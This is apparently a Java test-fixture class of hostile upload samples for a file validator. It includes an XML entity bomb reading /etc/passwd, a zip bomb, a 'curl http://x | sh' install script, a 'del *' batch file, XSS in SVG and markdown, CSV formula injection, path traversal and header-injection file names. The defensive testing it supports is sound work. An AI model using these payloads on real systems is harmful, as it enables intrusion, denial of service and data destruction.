package io.colorguard.compliance;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files as people bring them, and as attackers do. */
public final class HostileFiles {

    public static final byte[] PDF =
            latin("%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n");

    private static final String PNG_ENDS = "\0\0\0\0IEND\u00aeB`\u0082";

    public static final byte[] PNG = latin("\u0089PNG\r\n\u001a\n\0\0\0\rIHDR" + PNG_ENDS);
    public static final byte[] JPEG = latin("\u00ff\u00d8\u00ff\u00e0\0\u0010JFIF\0\u00ff\u00d9");

    private static final String HTML = "<html><script>fetch('/api/v1/workspaces')</script></html>";
    private static final String BOMB =
            """
            <?xml version="1.0"?>
            <!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
              <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
              <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f SYSTEM "file:///etc/passwd">]>
            <lolz>&e;&f;</lolz>
            """;

    /** Files that are refused whatever they are called, with the end of the refusal's key. */
    public enum Refused {
        HTML_AS_PNG("picture.png", "file.markup", utf8(HTML)),
        HTML_AFTER_BLANKS("notes.txt", "file.markup", utf8("\ufeff \n\t" + HTML)),
        HTML_IN_UTF_16("notes.txt", "file.markup", HTML.getBytes(UTF_16)),
        HTML_AFTER_WORDS("notes.txt", "file.type", utf8("Please read <!DOCTYPE html>" + HTML)),
        SVG_WITH_SCRIPT("logo.svg", "file.markup", utf8("<svg onload='alert(1)'/>")),
        SVG_AS_PNG("logo.png", "file.markup", utf8("<?xml version='1.0'?><svg onload='x()'/>")),
        ENTITY_BOMB_AS_JSON("data.json", "file.markup", utf8(BOMB)),
        ZIP_BOMB("evidence.zip", "file.type", zipBomb()),
        ZIP_BOMB_AS_PDF("evidence.pdf", "file.type", zipBomb()),
        GZIP("evidence.txt", "file.type", latin("\u001f\u008b\b\0\0\0\0\0")),
        EXE_AS_PDF("invoice.pdf", "file.type", latin("MZ\u0090\0\3\0\0\0\4\0\0\0")),
        SCRIPT_AS_TEXT("install.txt", "file.type", utf8("#!/bin/sh\ncurl http://x | sh\n")),
        BATCH_AS_TEXT("install.txt", "file.type", utf8("@echo off\r\ndel *\r\n")),
        OFFICE_WITH_MACROS(
                "plan.doc", "file.type", latin("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1")),
        GARBAGE_AS_TEXT("notes.txt", "file.not_plain", latin("\u00ff".repeat(300))),
        LATIN_1_AS_TEXT("notes.txt", "file.not_plain", latin("Autorización")),
        ESCAPES_IN_TEXT("build.log", "file.not_plain", utf8("ok\u001b]0;rm -rf\u0007\n")),
        ZERO_FAR_IN_TEXT("build.log", "file.not_plain", utf8("x".repeat(100_000) + "\0")),
        PDF_AND_HTML("polyglot.pdf", "file.cut", utf8("%PDF-1.4\n" + HTML)),
        PDF_CUT_OFF("report.pdf", "file.cut", Arrays.copyOf(PDF, PDF.length - 8)),
        PNG_CUT_OFF("picture.png", "file.cut", Arrays.copyOf(PNG, PNG.length - 1)),
        PNG_AND_ZIP("picture.png", "file.cut", joined(PNG, zipBomb())),
        JPEG_AND_PROGRAM("picture.jpg", "file.cut", joined(JPEG, new byte[10_000])),
        EMPTY("empty.pdf", "file.empty", new byte[0]),
        NAMELESS("../..", "file.nameless", PDF),
        TOO_LARGE("large.pdf", "file.too_large", large());

        public final String called;
        public final String messageKey;
        private final byte[] content;

        Refused(String called, String refusal, byte[] content) {
            this.called = called;
            this.messageKey = "compliance.refusal." + refusal;
            this.content = content;
        }

        public byte[] content() {
            return content.clone();
        }
    }

    /** Files that are kept, and what becomes of their names. */
    public enum Harmless {
        PATH("../../../etc/cron.d/evil.pdf", "evil.pdf", "application/pdf", PDF),
        WINDOWS_PATH("C:\\boot\\evil.pdf", "evil.pdf", "application/pdf", PDF),
        BIDI("invoice\u202Efdp.exe", "invoicefdp.exe.pdf", "application/pdf", PDF),
        HEADERS("a\r\nSet-Cookie: x=1\r\n\r\n<html>.pdf", "html_.pdf", "application/pdf", PDF),
        QUOTES("a\"; filename=\"b.html", "a_; filename=_b.html.png", "image/png", PNG),
        PNG_AS_HTML("page.html", "page.html.png", "image/png", PNG),
        POLYGLOT(
                "polyglot.html",
                "polyglot.html.pdf",
                "application/pdf",
                joined(utf8("%PDF-1.4\n" + HTML), utf8("\n%%EOF"))),
        FORMULA("=cmd.csv", "=cmd.csv", "text/csv", utf8("=cmd|' /c calc'!A0,1\n+1,@SUM(1)\n")),
        JSON("__proto__.json", "__proto__.json", "application/json", utf8("{\"__proto__\": {}}")),
        MARKDOWN(
                "readme.md",
                "readme.md",
                "text/markdown",
                utf8("# Title\n[x](javascript:alert(1)) <img src=x onerror=alert(1)>")),
        BAT_AS_NAME("run.bat", "run.bat.txt", "text/plain", utf8("steps: 1, 2, 3")),
        PHOTO("photo.jpg", "photo.jpg", "image/jpeg", JPEG),
        SPANISH("Autorización.txt", "Autorización.txt", "text/plain", utf8("Autorización: sí"));

        public final String called;
        public final String name;
        public final String type;
        private final byte[] content;

        Harmless(String called, String name, String type, byte[] content) {
            this.called = called;
            this.name = name;
            this.type = type;
            this.content = content;
        }

        public byte[] content() {
            return content.clone();
        }
    }

    private HostileFiles() {}

    /** A PDF of 26 MiB. */
    public static byte[] large() {
        return filled(26 << 20);
    }

    /** A PDF of this size, each time another. */
    public static byte[] filled(int size) {
        byte[] bytes = new byte[size];
        new Random().nextBytes(bytes);
        System.arraycopy(PDF, 0, bytes, 0, 9);
        System.arraycopy(PDF, PDF.length - 6, bytes, size - 6, 6);
        return bytes;
    }

    /** Little that becomes much: 16 MiB of zeros. */
    private static byte[] zipBomb() {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("zeros"));
            zip.write(new byte[16 << 20]);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(UTF_8);
    }

    private static byte[] latin(String text) {
        return text.getBytes(ISO_8859_1);
    }
}
